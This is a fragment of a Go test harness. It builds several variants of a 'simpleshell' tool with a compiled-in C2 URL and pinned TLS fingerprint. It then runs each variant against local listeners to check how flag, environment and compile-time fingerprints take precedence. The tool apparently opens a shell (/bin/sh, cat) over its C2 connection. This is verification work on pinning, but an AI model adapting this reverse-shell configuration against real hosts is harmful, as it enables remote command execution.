		"malformed": {"len31", "no-padding", "garbage", "hex", "double-prefix", "prefix-only", "urlsafe", "len33", "upper-prefix"},
		"blank":     {"blank-space", "blank-tab", "blank-spaces", "blank-mixed", "prefix-space", "blank-nbsp", "blank-lf", "prefix-mixed"},
		"padded":    {"space-both", "tab-padded", "trailing-space", "leading-space", "mixed-padded", "lf-padded", "wrong-pin-tab-padded", "space-before-prefix", "trailing-newline"},
	}
)

type cliCombo struct {
	F, E, C int
	NoFlags bool // the build with main.IgnoreFlags set
}

// cliCombos is the case list of a tier: thorough = the full product of (what the flag
// holds) × (what the environment variable holds) × (what was compiled in), twice; quick =
// the half of the product whose index sum has the parity of the seed - every PAIR of
// values of two sources is in it (the third source ranges over ≥ 5 values).
func cliCombos(r *mon.Run) []cliCombo {
	var out []cliCombo
	rounds := r.N(1, 2)
	for round := 0; round < rounds; round++ {
		for f := range cliFlagKinds {
			for e := range cliEnvKinds {
				for c := range cliCompiledKinds {
					if !r.Thorough() && (f+e+c+int(r.Seed))%2 != 0 {
						continue
					}
					out = append(out, cliCombo{f, e, c, false})
				}
			}
		}
	}
	// the build that does not parse its command line (-X main.IgnoreFlags=1): no flag is
	// given; every value of the environment variable over a compiled-in pin which is the
	// server's resp. another server's
	for round := 0; round < rounds; round++ {
		for c := 1; c <= 2; c++ {
			for e := range cliEnvKinds {
				out = append(out, cliCombo{0, e, c, true})
			}
		}
	}
	return out
}

type cliBuild struct {
	Name     string `json:"build"`
	LDFlags  string `json:"ldflags"`
	FP       string `json:"compiled_fingerprint"`
	FPClass  string `json:"compiled_fingerprint_class,omitempty"`
	Args     string `json:"compiled_args,omitempty"`
	EnvNames [3]string
	NoFlags  bool      `json:"ignores_its_command_line,omitempty"`
	pinOf    *identity // the identity whose pin FP is
	c2id     *identity // what the listener behind the compiled-in C2 presents
	ep       *endpoint // the listener behind the compiled-in C2 (lives as long as the process)
	bin      string
	mu       sync.Mutex
}

type cliSource struct {
	Kind  string `json:"kind"`
	Class string `json:"spelling_class,omitempty"`
	Value string `json:"value"`
	Set   bool   `json:"given"`
}

type cliCase struct {
	Build      string     `json:"build"`
	LDFlags    string     `json:"ldflags,omitempty"`
	Flag       cliSource  `json:"fingerprint_flag"`
	FlagForm   string     `json:"flag_form,omitempty"`
	Env        cliSource  `json:"fingerprint_env"`
	Compiled   cliSource  `json:"fingerprint_compiled"`
	EffSource  string     `json:"effective_fingerprint_from"`
	Effective  string     `json:"effective_fingerprint"`
	C2Mode     string     `json:"c2_source"`
	ArgsMode   string     `json:"command_source"`
	Argv       []string   `json:"argv"`
	Environ    []string   `json:"environment"`
	Stderr     string     `json:"stderr_tail,omitempty"`
	Status     int        `json:"exit_status"`
	Decoys     []cliDecoy `json:"overridden_c2_listeners,omitempty"`
	Precedence string     `json:"documented_precedence"`
	TargetIsCT bool       `json:"target_is_the_compiled_in_c2,omitempty"`
}

type cliDecoy struct {
	What     string `json:"what"`
	URL      string `json:"url"`
	Accepts  int    `json:"tcp_accepts"`
	AppConns int    `json:"conns_with_application_bytes"`
	Handlers int    `json:"handler_runs"`
	Echoed   int    `json:"tokens_echoed"`
	ep       *endpoint
	id       *identity
	base     [7]int
}

const cliPrecedence = "flag, if non-empty; else environment variable, if non-empty; else compile-time value (README: 'environment variables … override compile-time defaults', 'Command-line config overrides environment variables'; chooseFingerprint: 'the first non-empty string from its own argument, the value of the environment variable named FingerprintEnvVar, and finally Fingerprint')"

func epBase(ep *endpoint) [7]int {
	ep.mu.Lock()
	defer ep.mu.Unlock()
	return [7]int{ep.accepts, ep.clientHellos, ep.handshakes, ep.appByteConns, ep.appBytes, ep.handlerRuns, ep.echoed}
}

func quoteLD(name, val string) string {
	s := "main." + name + "=" + val
	if strings.ContainsAny(s, " \t'\"") {
		if strings.Contains(s, "'") {
			return "-X \"" + s + "\""
		}
		return "-X '" + s + "'"
	}
	return "-X " + s
}

// cliSetup starts the listeners behind the compiled-in C2 URLs and builds the tool.
func (w *world) cliSetup() (map[string]*cliBuild, error) {
	r := w.r
	rng := r.Rng("cli-builds", 0)
	valid := w.cav["ca-valid"]
	if len(w.self) < 4 || len(valid) < 2 {
		return nil, fmt.Errorf("too few identities")
	}
	a, b, x := w.self[rng.IntN(len(w.self))], w.self[rng.IntN(len(w.self))], w.self[rng.IntN(len(w.self))]
	for b == a {
		b = w.self[rng.IntN(len(w.self))]
	}
	d := w.self[rng.IntN(len(w.self))]
	v1 := valid[rng.IntN(len(valid))]
	v2 := valid[rng.IntN(len(valid))]
	blank := []string{" ", "\t", "  \t ", strings.Repeat(" ", 44), "sha256// "}[rng.IntN(5)]
	var mal, malClass string
	switch rng.IntN(3) {
	case 0:
		mal, malClass = " "+b64(x.pins[0])+" ", "space-both"
	case 1:
		mal, malClass = b64(x.pins[0][:31]), "len31"
	default:
		mal, malClass = b64(x.pins[0])+"\t", "tab-padded"
	}
	builds := []*cliBuild{
		{Name: "stock"},
		{Name: "renamed-env", EnvNames: [3]string{"C13_CLI_FP", "C13_CLI_C2", "C13_CLI_ARGS"}},
		{Name: "pin-a", FP: b64(a.pins[0]), FPClass: "exact", pinOf: a, c2id: a, Args: ",cat"},
		{Name: "pin-b", FP: prefix + b64(b.pins[0]), FPClass: "prefixed", pinOf: b, c2id: v1},
		{Name: "blank", FP: blank, FPClass: "blank", c2id: v2},
		{Name: "malformed", FP: mal, FPClass: malClass, c2id: x},
		{Name: "ignore-flags", FP: b64(d.pins[0]), FPClass: "exact", pinOf: d, c2id: d, NoFlags: true},
	}
	dir := filepath.Join(r.Work, "cli")
	if err := os.MkdirAll(dir, 0o755); err != nil {
		return nil, err
	}
	out := map[string]*cliBuild{}
	for i, bd := range builds {
		var ld []string
		if bd.c2id != nil {
			kind := []string{"https", "raw"}[i%2]
			ep, err := startEndpoint(bd.c2id, kind, i%4 < 2, i%3 != 0)
			if err != nil {
				return nil, err
			}
			bd.ep = ep
			ld = append(ld, quoteLD("C2", ep.url))
		}
		if bd.FP != "" {
			ld = append(ld, quoteLD("Fingerprint", bd.FP))
		}
		if bd.Args != "" {
			ld = append(ld, quoteLD("Args", bd.Args))
		}
		if bd.NoFlags {
			ld = append(ld, quoteLD("IgnoreFlags", "1"))
		}
		if bd.EnvNames[0] != "" {
			ld = append(ld, quoteLD("FingerprintEnvVar", bd.EnvNames[0]), quoteLD("C2EnvVar", bd.EnvNames[1]), quoteLD("ArgsEnvVar", bd.EnvNames[2]))
		} else {
			bd.EnvNames = [3]string{"SIMPLESHELL_FP", "SIMPLESHELL_C2", "SIMPLESHELL_ARGS"}
		}
		bd.LDFlags = strings.Join(ld, " ")
		bd.bin = filepath.Join(dir, "simpleshell-"+bd.Name)
		out[bd.Name] = bd
	}
	var wg sync.WaitGroup
	errs := make([]error, len(builds))
	sem := make(chan struct{}, 3)
	for i, bd := range builds {
		wg.Add(1)
		go func() {
			defer wg.Done()
			sem <- struct{}{}
			defer func() { <-sem }()
			args := []string{"build", "-race", "-tags", "verif", "-o", bd.bin}
			if bd.LDFlags != "" {
				args = append(args, "-ldflags", bd.LDFlags)
			}
			args = append(args, cliPkg)
			cmd := exec.Command("go", args...)
			cmd.Dir = filepath.Join(mon.VerifDir, "harness")
			cmd.Env = append(os.Environ(), "GOFLAGS=-mod=mod", "GOPROXY=off", "GOSUMDB=off", "GOTOOLCHAIN=local")
			if o, err := cmd.CombinedOutput(); err != nil {
				errs[i] = fmt.Errorf("go build %s (%s): %v\n%s", cliPkg, bd.LDFlags, err, o)
			}
		}()
	}
	wg.Wait()
	for _, e := range errs {
		if e != nil {
			return nil, e
		}
	}
	return out, nil
}

func (w *world) cliEnvBase() []string {
	env := []string{"PATH=/usr/bin:/bin", "HOME=" + w.r.Work, "LC_ALL=C",
		"SSL_CERT_FILE=" + os.Getenv("SSL_CERT_FILE"), "SSL_CERT_DIR=" + os.Getenv("SSL_CERT_DIR")}
	if pre := os.Getenv("VERIF_RACELOG"); pre != "" {
		env = append(env, "GORACE=halt_on_error=0 log_path="+pre)
	}
	return env
}

type toolResult struct {
	stderr   string
	status   int
	timedOut bool
	ms       int64
}

func runTool(bin string, argv, env []string, d time.Duration) toolResult {
	cmd := exec.Command(bin, argv...)
	cmd.Env = env
	var se bytes.Buffer
	cmd.Stdout, cmd.Stderr = &se, &se
	cmd.SysProcAttr = &syscall.SysProcAttr{Setpgid: true}
	t0 := time.Now()
	// registered before anybody can ask whose a connection of it is
	toolMu.Lock()
	if err := cmd.Start(); err != nil {
		toolMu.Unlock()
		return toolResult{stderr: "cannot start: " + err.Error(), status: -2}
	}
	pid := cmd.Process.Pid
	toolPids[pid] = struct{}{}
	toolMu.Unlock()
	defer toolUnregister(pid)
	done := make(chan error, 1)
	go func() { done <- cmd.Wait() }()
	var res toolResult
	select {
	case <-done:
	case <-time.After(d):
		res.timedOut = true
		syscall.Kill(-pid, syscall.SIGKILL)
		cmd.Process.Kill()
		<-done
	}
	// nothing of the tool's process group is left behind (its command, a cat or sh)
	syscall.Kill(-pid, syscall.SIGKILL)
	res.ms = time.Since(t0).Milliseconds()
	res.stderr = se.String()
	res.status = cmd.ProcessState.ExitCode()
	return res
}

var (
	cliErrRe      = regexp.MustCompile(`(?m)^\d{4}/\d\d/\d\d \d\d:\d\d:\d\d Error: (.*)$`)
	cliShellEndRe = regexp.MustCompile(`^running .*: exit status \d+$`)
)

// cliValue spells what a source of kind k holds, relative to the target identity.
func (w *world) cliValue(kind string, target *identity, rng *mrand.Rand) (class, val string) {
	switch kind {
	case "absent", "empty":
		return "", ""
	}
	cl := cliClasses[kind]
	for try := 0; try < 32; try++ {
		class = cl[rng.IntN(len(cl))]
		if v, ok := spell(class, target, w.ids, rng); ok && !strings.ContainsRune(v, 0) {
			return class, v
		}
	}
	class = cl[0]
	val, _ = spell(class, target, w.ids, rng)
	return class, val
}

func sharesKey(a, b *identity) bool {
	for _, p := range a.pins {
		for _, q := range b.pins {
			if bytes.Equal(p, q) {
				return true
			}
		}
	}
	return false
}

// runCLI runs the cases start..start+count-1 of the cli engine: one lane per build of the
// tool (the cases of one build share the listener behind its compiled-in C2 and therefore
// run one after the other), the lanes side by side.
func (w *world) runCLI(start, count int) {
	r := w.r
	combos := cliCombos(r)
	builds, err := w.cliSetup()
	if err != nil {
		r.Inconclusive("cli: cannot build the tool: " + err.Error())
		return
	}
	defer func() {
		for _, b := range builds {
			if b.ep != nil {
				b.ep.close()
			}
		}
	}()
	for _, n := range cliBuildNames {
		if builds[n] != nil {
			r.Count("cli_builds", 1)
			r.Count("cli_build:"+n, 1)
		}
	}
	// the tool's own documentation names the two flags
	h := runTool(builds["stock"].bin, []string{"-h"}, w.cliEnvBase(), callTimeout)
	if strings.Contains(h.stderr, "-c2") && strings.Contains(h.stderr, "-fingerprint") && strings.Contains(h.stderr, "[options] [command...]") {
		r.Count("cli_usage_lists_the_flags", 1)
	} else {
		r.Inconclusive("cli: the tool's -h output does not list -c2 / -fingerprint: " + h.stderr)
		return
	}
	lanes := map[string][]int{}
	for i := start; i < start+count && i < len(combos); i++ {
		if !r.Want("cli", i) {
			continue
		}
		b := w.cliBuildFor(i, combos[i])
		lanes[b] = append(lanes[b], i)
	}
	var wg sync.WaitGroup
	for name, idx := range lanes {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for _, i := range idx {
				w.cliCase(i, combos[i], builds[name])
			}
		}()
	}
	wg.Wait()
	r.Count("cli_connections_recognised_as_made_by_the_tool", toolConnsSeen.Load())
	r.Count("cli_tool_sockets_identified_by_sock_diag", toolLookups[0].Load())
	r.Count("cli_tool_sockets_identified_by_proc_net_tcp", toolLookups[1].Load())
}

func (w *world) cliBuildFor(i int, cb cliCombo) string {
	if cb.NoFlags {
		return "ignore-flags"
	}
	switch cliCompiledKinds[cb.C] {
	case "absent":
		return []string{"stock", "renamed-env"}[(i/2)%2]
	case "pin-of-target", "pin-of-other":
		return []string{"pin-a", "pin-b"}[(i/2)%2]
	case "blank":
		return "blank"
	}
	return "malformed"
}

func (w *world) cliCase(i int, cb cliCombo, bd *cliBuild) {
	r := w.r
	rng := r.Rng("cli", i)
	fk, ek, ck := cliFlagKinds[cb.F], cliEnvKinds[cb.E], cliCompiledKinds[cb.C]
	cs := &cliCase{Build: bd.Name, LDFlags: bd.LDFlags, Precedence: cliPrecedence}
	// which kind of string is effective (decides nothing but the choice of the server)
	effKind := ck
	if ck == "pin-of-target" || ck == "pin-of-other" {
		effKind = "pin"
	}
	if ek != "absent" && ek != "empty" {
		effKind = ek
	}
	if fk != "absent" && fk != "empty" {
		effKind = fk
	}
	// where the C2 URL comes from
	var modes []string
	switch {
	case bd.NoFlags && ck == "pin-of-target":
		modes = []string{"env", "compiled"}
	case bd.NoFlags:
		modes = []string{"env"}
	case bd.ep == nil:
		modes = []string{"flag", "env", "flag-over-env"}
	case ck == "pin-of-target" && bd.c2id != bd.pinOf, ck == "pin-of-other" && bd.c2id == bd.pinOf:
		modes = []string{"flag", "env", "flag-over-env"} // the listener behind the compiled-in C2 presents the wrong identity for this case
	default:
		modes = []string{"flag", "env", "flag-over-env", "compiled", "compiled"}
	}
	cs.C2Mode = modes[rng.IntN(len(modes))]
	// the server
	var target *identity
	switch {
	case cs.C2Mode == "compiled":
		target = bd.c2id
	case ck == "pin-of-target":
		target = bd.pinOf
	default:
		for try := 0; ; try++ {
			if (effKind == "blank" || effKind == "malformed" || effKind == "padded" || effKind == "absent" || effKind == "wrong") && rng.IntN(2) == 0 {
				// ordinary validation would let the call through: only the fingerprint can stop it
				target = w.cav["ca-valid"][rng.IntN(len(w.cav["ca-valid"]))]
			} else {
				target = w.pickIdentity(rng)
			}
			if ck != "pin-of-other" || !sharesKey(target, bd.pinOf) || try > 64 {
				break
			}
		}
	}
	cs.Flag.Kind, cs.Env.Kind, cs.Compiled.Kind = fk, ek, ck
	cs.Flag.Class, cs.Flag.Value = w.cliValue(fk, target, rng)
	cs.Env.Class, cs.Env.Value = w.cliValue(ek, target, rng)
	cs.Flag.Set, cs.Env.Set = fk != "absent", ek != "absent"
	cs.Compiled = cliSource{Kind: ck, Class: bd.FPClass, Value: bd.FP, Set: bd.FP != ""}
	effClass := "unpinned"
	switch {
	case cs.Flag.Value != "":
		cs.EffSource, cs.Effective, effClass = "flag", cs.Flag.Value, cs.Flag.Class
	case cs.Env.Value != "":
		cs.EffSource, cs.Effective, effClass = "environment", cs.Env.Value, cs.Env.Class
	case bd.FP != "":
		cs.EffSource, cs.Effective, effClass = "compile-time", bd.FP, bd.FPClass
		if ck == "pin-of-other" {
			effClass = "other-server"
		}
	default:
		cs.EffSource = "none"
	}

	bd.mu.Lock()
	defer bd.mu.Unlock()
	res := w.cliExec(i, cs, bd, target, effClass, rng)
	// a connection the listener never saw, or one it closed unread because it could not tell
	// whose socket it was: neither side of the property acted; the case is run again
	unseen := func(res *callResult) bool {
		if res == nil || res.Watchdog || res.Accepts != 0 || res.ClientHellos != 0 || !tcpFailRe.MatchString(res.Err) {
			return false
		}
		for _, e := range res.Events {
			if !strings.Contains(e, "is no socket of this process") {
				return false
			}
		}
		return true
	}
	if unseen(res) {
		r.Count("calls_repeated_after_a_reset_the_listener_never_saw", 1)
		res = w.cliExec(i, cs, bd, target, effClass, rng)
		if unseen(res) {
			r.Inconclusive("cli: twice in a row a connection was reset before the listener accepted it: " + res.Err)
			return
		}
	}
	if res == nil {
		return
	}
	// counters of the matrix
	r.Count("cli_cases", 1)
	r.Count("cli_fp_flag:"+fk, 1)
	r.Count("cli_fp_env:"+ek, 1)
	r.Count("cli_fp_compiled:"+ck, 1)
	r.Count("cli_fp_pair:flag="+fk+",env="+ek, 1)
	r.Count("cli_fp_pair:flag="+fk+",compiled="+ck, 1)
	r.Count("cli_fp_pair:env="+ek+",compiled="+ck, 1)
	r.Count("cli_effective_fingerprint_from:"+cs.EffSource, 1)
	r.Count("cli_effective_fingerprint_kind:"+effKind, 1)
	r.Count("cli_c2_from:"+cs.C2Mode, 1)
	r.Count("cli_command_from:"+cs.ArgsMode, 1)
	r.Count("cli_cases_with_build:"+bd.Name, 1)
	if cs.Flag.Set {
		r.Count("cli_flag_form:"+cs.FlagForm, 1)
	}
	higher := 0
	if cs.EffSource == "environment" && bd.FP != "" {
		higher++
		if !bd.NoFlags { // (that build's cases have a counter of their own)
			r.Count("cli_environment_fingerprint_over_a_compiled_in_one", 1)
			if ck == "pin-of-target" || ck == "pin-of-other" {
				r.Count("cli_environment_fingerprint_over_a_compiled_in_pin", 1)
			}
		}
	}
	if cs.EffSource == "flag" && cs.Env.Value != "" {
		higher++
		r.Count("cli_flag_fingerprint_over_an_environment_one", 1)
	}
	if cs.EffSource == "flag" && bd.FP != "" {
		higher++
		r.Count("cli_flag_fingerprint_over_a_compiled_in_one", 1)
	}
	if higher > 0 {
		r.Count("cli_cases_in_which_a_source_overrides_another", 1)
	}
	if bd.NoFlags && cs.EffSource == "environment" {
		r.Count("cli_environment_fingerprint_over_a_compiled_in_pin_in_the_build_that_ignores_its_command_line", 1)
	}
	if (fk == "empty" && (cs.Env.Value != "" || bd.FP != "")) || (ek == "empty" && cs.Flag.Value == "" && bd.FP != "") {
		r.Count("cli_empty_value_falls_through_to_the_next_source", 1)
	}
	if effKind == "blank" {
		r.Count("cli_effective_fingerprint_whitespace_only", 1)
		if target.valid() {
			r.Count("cli_effective_fingerprint_whitespace_only_to_servers_passing_ordinary_validation", 1)
		}
		if cs.Env.Value != "" && cs.EffSource == "flag" && (ek == "right" || ek == "wrong") {
			r.Count("cli_whitespace_only_flag_over_a_well_formed_environment_pin", 1)
		}
	}
	sig := fmt.Sprintf("cli|%s|%s|%s|%s|%s|%s|%s|%s|%s", bd.Name, fk, cs.Flag.Class, ek, cs.Env.Class, ck, cs.C2Mode, target.Class, res.Exp.Expect)
	r.Distinct(sig)
	if i%37 == 0 {
		r.Sample("cli", map[string]any{"case": cs, "call": res})
	}

	key, what := w.judge(res)
	if key != "" {
		key += ":cli"
		what += fmt.Sprintf(" [command-line tool, build %q (%s): fingerprint flag %s %q, environment %s=%q (%s), compiled in %q (%s); effective by the documented precedence: %q from %s; C2 from %s; argv %q]",
			bd.Name, bd.LDFlags, cs.FlagForm, cs.Flag.Value, bd.EnvNames[0], cs.Env.Value, cs.Env.Kind, bd.FP, ck, cs.Effective, cs.EffSource, cs.C2Mode, cs.Argv)
	} else {
		switch {
		case res.Exp.Expect == "accept" && res.Observed == "accepted":
			r.Count("cli_accepts_held", 1)
			if higher > 0 {
				r.Count("cli_accepts_held_where_a_source_overrides_another", 1)
			}
		case res.Exp.Expect == "refuse-handshake" && res.Observed == "refused-at-handshake":
			r.Count("cli_refusals_at_handshake_held", 1)
			if higher > 0 {
				r.Count("cli_refusals_at_handshake_held_where_a_source_overrides_another", 1)
			}
		case res.Exp.Expect == "refuse-outright" && res.Observed == "refused-outright":
			r.Count("cli_malformed_refused_with_zero_connections", 1)
		}
	}
	// the listeners behind overridden C2 values: nothing may be exchanged with a server the
	// effective fingerprint does not name, and a malformed one means no connection anywhere
	for k := range cs.Decoys {
		d := &cs.Decoys[k]
		r.Count("cli_overridden_c2_listeners_watched", 1)
		r.Count("cli_connections_to_overridden_c2_listeners", int64(d.Accepts))
		if key != "" {
			continue
		}
		e := oracle(d.id, cs.Effective)
		switch {
		case (d.AppConns > 0 || d.Handlers > 0 || d.Echoed > 0) && e.Expect != "accept":
			key = "traffic-to-overridden-c2:cli"
			what = fmt.Sprintf("the tool sent application bytes (%d connection(s), %d handler run(s), %d token(s) echoed) to %s at %s, which none of the effective fingerprint %q (from %s) names and which is not where the documented precedence sends it; build %q (%s), argv %q", d.AppConns, d.Handlers, d.Echoed, d.What, d.URL, cs.Effective, cs.EffSource, bd.Name, bd.LDFlags, cs.Argv)
		case d.Accepts > 0 && res.Exp.Expect == "refuse-outright":
			key = "malformed-fingerprint-dialled:cli"
			what = fmt.Sprintf("the effective fingerprint %q (from %s) is malformed, yet the tool connected (%d connection(s)) to %s at %s; build %q (%s), argv %q", cs.Effective, cs.EffSource, d.Accepts, d.What, d.URL, bd.Name, bd.LDFlags, cs.Argv)
		}
	}
	if key == "" {
		return
	}
	res.Key, res.What = key, what
	if w.capped(key) {
		return
	}
	r.Violate("cli", i, key, what, map[string]any{"case": cs, "call": res, "process_history": w.history()})
}

// cliExec runs the tool once for a case and turns what the listeners saw into a callResult.
func (w *world) cliExec(i int, cs *cliCase, bd *cliBuild, target *identity, effClass string, rng *mrand.Rand) *callResult {
	r := w.r
	kind := []string{"raw", "https"}[rng.IntN(2)]
	spec := callSpec{Ident: target.ID, Class: target.Class, ChainLen: len(target.Chain), Kind: kind, H2: rng.IntN(3) != 0, TLS13: rng.IntN(3) != 0,
		Intent: intentOf(effClass), Spelling: effClass, FP: cs.Effective, Scheme: "https"}
	var ep *endpoint
	cs.Decoys = nil
	if cs.C2Mode == "compiled" {
		ep = bd.ep
		cs.TargetIsCT = true
		spec.Kind, spec.H2, spec.TLS13 = ep.kind, ep.h2, ep.tls13
	} else {
		var err error
		if ep, err = startEndpoint(target, spec.Kind, spec.H2, spec.TLS13); err != nil {
			r.Inconclusive("cli: cannot start an endpoint: " + err.Error())
			return nil
		}
		defer ep.close()
		if bd.ep != nil {
			cs.Decoys = append(cs.Decoys, cliDecoy{What: "the listener behind the compiled-in C2 (overridden by " + cs.C2Mode + ")", URL: bd.ep.url, ep: bd.ep, id: bd.c2id, base: epBase(bd.ep)})
		}
	}
	res := &callResult{Spec: spec, Exp: oracle(target, cs.Effective), C2: ep.url}
	base := epBase(ep)
	nEvents := func() int { ep.mu.Lock(); defer ep.mu.Unlock(); return len(ep.events) }()
	argv := []string{}
	env := w.cliEnvBase()
	switch cs.C2Mode {
	case "flag":
		argv = append(argv, []string{"-c2", "--c2"}[rng.IntN(2)], ep.url)
	case "env":
		if rng.IntN(3) == 0 && !bd.NoFlags {
			argv = append(argv, "-c2=") // an empty flag value falls through to the environment
		}
		env = append(env, bd.EnvNames[1]+"="+ep.url)
	case "flag-over-env":
		// the environment names another server (a key of its own); the flag overrides it
		var did *identity
		for try := 0; try < 64; try++ {
			did = w.self[rng.IntN(len(w.self))]
			if !sharesKey(did, target) {
				break
			}
		}
		dep, err := startEndpoint(did, "raw", false, true)
		if err != nil {
			r.Inconclusive("cli: cannot start an endpoint: " + err.Error())
			return nil
		}
		defer dep.close()
		cs.Decoys = append(cs.Decoys, cliDecoy{What: "the listener named by " + bd.EnvNames[1] + " (overridden by -c2)", URL: dep.url, ep: dep, id: did, base: epBase(dep)})
		argv = append(argv, "-c2="+ep.url)
		env = append(env, bd.EnvNames[1]+"="+dep.url)
	}
	if cs.Flag.Set {
		form := rng.IntN(len(cliFlagForms))
		cs.FlagForm = cliFlagForms[form]
		switch form {
		case 0:
			argv = append(argv, "-fingerprint", cs.Flag.Value)
		case 1:
			argv = append(argv, "-fingerprint="+cs.Flag.Value)
		case 2:
			argv = append(argv, "--fingerprint", cs.Flag.Value)
		default:
			argv = append(argv, "--fingerprint="+cs.Flag.Value)
		}
	}
	if cs.Env.Set {
		env = append(env, bd.EnvNames[0]+"="+cs.Env.Value)
	}
	// the command: whatever echoes its input (the listener's token must come back)
	cs.ArgsMode = cliArgsModes[rng.IntN(len(cliArgsModes))]
	if bd.NoFlags { // no command line at all
		cs.ArgsMode = []string{"env", "default-or-compiled"}[rng.IntN(2)]
	}
	switch cs.ArgsMode {
	case "positional":
		argv = append(argv, "cat")
	case "env":
		env = append(env, bd.EnvNames[2]+"= cat")
	case "positional-over-env":
		argv = append(argv, "/bin/sh", "-c", "exec cat")
		env = append(env, bd.EnvNames[2]+"=,/bin/sh,-c,cat")
	default: // compiled-in command, else the tool's default /bin/sh (which echoes the token in its complaint about it)
	}
	cs.Argv, cs.Environ = argv, env[3:]
	res.PinnedBefore = w.pinned.Load()

	tr := runTool(bd.bin, argv, env, callTimeout)
	res.Ms = tr.ms
	cs.Status = tr.status
	st := tr.stderr
	if len(st) > 1500 {
		st = st[len(st)-1500:]
	}
	cs.Stderr = st
	if m := cliErrRe.FindStringSubmatch(tr.stderr); m != nil {
		res.Err = m[1]
	} else if tr.status != 0 {
		res.Err = fmt.Sprintf("the tool ended with status %d: %s", tr.status, st)
	}
	res.Watchdog = tr.timedOut
	// the tool has ended: every connection it made was made before now.  Negative
	// observations come after a probe of ours has been accepted behind them and the
	// server side of every accepted connection has run to its end.
	watch := []*endpoint{ep}
	for _, d := range cs.Decoys {
		watch = append(watch, d.ep)
	}
	if !res.Watchdog {
		for _, e := range watch {
			r.Count("probes", 1)
			if !e.probe() {
				r.Inconclusive("cli: probe connection to an endpoint was not accepted")
				res.Watchdog = true
			}
			if !e.waitIdle(5 * time.Second) {
				r.Count("server_conns_still_open_after_refusal", 1)
			}
		}
	}
	ep.mu.Lock()
	res.Accepts, res.ClientHellos, res.Handshakes = ep.accepts-base[0], ep.clientHellos-base[1], ep.handshakes-base[2]
	res.AppByteConns, res.AppBytes, res.HandlerRuns, res.Echoed = ep.appByteConns-base[3], ep.appBytes-base[4], ep.handlerRuns-base[5], ep.echoed-base[6]
	res.ReqLine = ep.reqLine
	res.SNI, res.SNISeen = ep.sni, ep.sniSeen
	if nEvents <= len(ep.events) {
		res.Events = append([]string(nil), ep.events[nEvents:]...)
	}
	ep.mu.Unlock()
	for k := range cs.Decoys {
		d := &cs.Decoys[k]
		now := epBase(d.ep)
		d.Accepts, d.AppConns, d.Handlers, d.Echoed = now[0]-d.base[0], now[3]-d.base[3], now[5]-d.base[5], now[6]-d.base[6]
	}
	res.PinnedByEnd = w.pinned.Load()
	// the command's own exit status (the default /bin/sh does not know the token as a
	// command: status 127) is not a statement about the connection
	errIsShellEnd := res.Err != "" && cliShellEndRe.MatchString(res.Err)
	noErr := res.Err == "" || (errIsShellEnd && res.Echoed > 0)
	switch {
	case res.Watchdog:
		res.Observed = "watchdog"
	case res.Echoed > 0 && noErr:
		res.Observed = "accepted"
	case res.Echoed > 0:
		res.Observed = "accepted-then-error"
	case noErr:
		res.Observed = "nil-without-exchange"
	case res.Accepts == 0:
		res.Observed = "refused-outright"
	case res.AppByteConns == 0 && res.HandlerRuns == 0:
		res.Observed = "refused-at-handshake"
	default:
		res.Observed = "refused-after-bytes"
	}
	return res
}

// cliFloors: every value of every source, every pair of values of two sources, every
// build, every way of naming the C2 and the command must have been exercised.
func cliFloors(r *mon.Run) {
	n := int64(len(cliCombos(r)))
	r.Floor("cli_cases", n)
	r.Floor("cli_builds", int64(len(cliBuildNames)))
	r.Floor("cli_usage_lists_the_flags", 1)
	for _, b := range cliBuildNames {
		r.Floor("cli_build:"+b, 1)
		r.Floor("cli_cases_with_build:"+b, int64(r.N(8, 28)))
	}
	for _, k := range cliFlagKinds {
		r.Floor("cli_fp_flag:"+k, int64(r.N(15, 70)))
		r.Floor("cli_fp_env:"+k, int64(r.N(15, 70)))
		for _, e := range cliEnvKinds {
			r.Floor("cli_fp_pair:flag="+k+",env="+e, int64(r.N(2, 10)))
		}
		for _, c := range cliCompiledKinds {
			r.Floor("cli_fp_pair:flag="+k+",compiled="+c, int64(r.N(3, 14)))
			r.Floor("cli_fp_pair:env="+k+",compiled="+c, int64(r.N(3, 14)))
		}
	}
	for _, c := range cliCompiledKinds {
		r.Floor("cli_fp_compiled:"+c, int64(r.N(20, 98)))
	}
	for _, s := range []string{"flag", "environment", "compile-time", "none"} {
		r.Floor("cli_effective_fingerprint_from:"+s, int64(r.N(1, 8)))
	}
	r.Floor("cli_effective_fingerprint_from:flag", int64(r.N(70, 300)))
	r.Floor("cli_effective_fingerprint_from:environment", int64(r.N(20, 90)))
	r.Floor("cli_effective_fingerprint_from:compile-time", int64(r.N(5, 30)))
	for _, k := range []string{"right", "wrong", "malformed", "blank", "padded", "pin", "absent"} {
		r.Floor("cli_effective_fingerprint_kind:"+k, int64(r.N(1, 8)))
	}
	for _, m := range cliC2Modes {
		r.Floor("cli_c2_from:"+m, int64(r.N(8, 40)))
	}
	for _, m := range cliArgsModes {
		r.Floor("cli_command_from:"+m, int64(r.N(15, 70)))
	}
	for _, f := range cliFlagForms {
		r.Floor("cli_flag_form:"+f, int64(r.N(12, 60)))
	}
	r.Floor("cli_cases_in_which_a_source_overrides_another", int64(r.N(60, 280)))
	r.Floor("cli_environment_fingerprint_over_a_compiled_in_one", int64(r.N(12, 60)))
	r.Floor("cli_environment_fingerprint_over_a_compiled_in_pin", int64(r.N(6, 30)))
	r.Floor("cli_flag_fingerprint_over_an_environment_one", int64(r.N(40, 180)))
	r.Floor("cli_flag_fingerprint_over_a_compiled_in_one", int64(r.N(40, 180)))
	r.Floor("cli_empty_value_falls_through_to_the_next_source", int64(r.N(10, 50)))
	r.Floor("cli_effective_fingerprint_whitespace_only", int64(r.N(15, 70)))
	r.Floor("cli_effective_fingerprint_whitespace_only_to_servers_passing_ordinary_validation", int64(r.N(4, 20)))
	r.Floor("cli_whitespace_only_flag_over_a_well_formed_environment_pin", int64(r.N(2, 10)))
	r.Floor("cli_environment_fingerprint_over_a_compiled_in_pin_in_the_build_that_ignores_its_command_line", int64(r.N(10, 20)))
	r.Floor("cli_accepts_held", int64(r.N(12, 60)))
	r.Floor("cli_accepts_held_where_a_source_overrides_another", int64(r.N(5, 25)))
	r.Floor("cli_refusals_at_handshake_held", int64(r.N(12, 60)))
	r.Floor("cli_refusals_at_handshake_held_where_a_source_overrides_another", int64(r.N(5, 25)))
	r.Floor("cli_malformed_refused_with_zero_connections", int64(r.N(40, 180)))
	r.Floor("cli_overridden_c2_listeners_watched", int64(r.N(40, 180)))
	r.Floor("cli_connections_recognised_as_made_by_the_tool", int64(r.N(30, 140)))
}

